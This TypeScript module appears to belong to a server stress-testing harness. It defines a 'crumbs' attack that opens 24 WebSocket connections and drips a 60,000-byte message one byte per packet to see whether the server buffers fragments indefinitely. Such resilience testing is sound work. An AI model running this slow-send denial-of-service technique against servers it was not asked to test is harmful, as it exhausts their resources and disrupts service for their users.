import { setTimeout as pause } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { frame, openGreeted, TEXT } from './rawSocket.ts';

const CONNECTIONS = 24;
/** Far more packets than any network makes of one message. */
const PATIENCE = 3500;

/** One message, a byte at a time: each byte costs the server more than a hundred. */
export const crumbs: Attack = {
  name: 'crumbs',
  hole: 'A long message that comes byte by byte: each packet is kept until the message is whole',
  leastMillis: 8000,
  run: async (target) => {
    const message = frame(TEXT, 'x'.repeat(60_000));
    const counts = { connections: 0, bytes: 0, ended: 0 };
    const flaws: string[] = [];
    const endMillis = Date.now() + target.millis;
    const lane = async (number: number): Promise<void> => {
      while (Date.now() < endMillis) {
        const socket = await openGreeted(target, number);
        if (socket === null) {
          await pause(200);
          continue;
        }
        counts.connections++;
        socket.resume();
        let sent = 0;
        for (; sent < PATIENCE && !socket.destroyed && Date.now() < endMillis; sent++) {
          socket.write(message.subarray(sent, sent + 1));
          counts.bytes++;
          await pause(1);
        }
        if (socket.destroyed || socket.readyState !== 'open') counts.ended++;
        else if (sent === PATIENCE) flaws.push(`${sent} packets of one message were kept`);
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, (_, number) => lane(number)));
    return { counts, flaws: flaws.slice(0, 3) };
  },
};
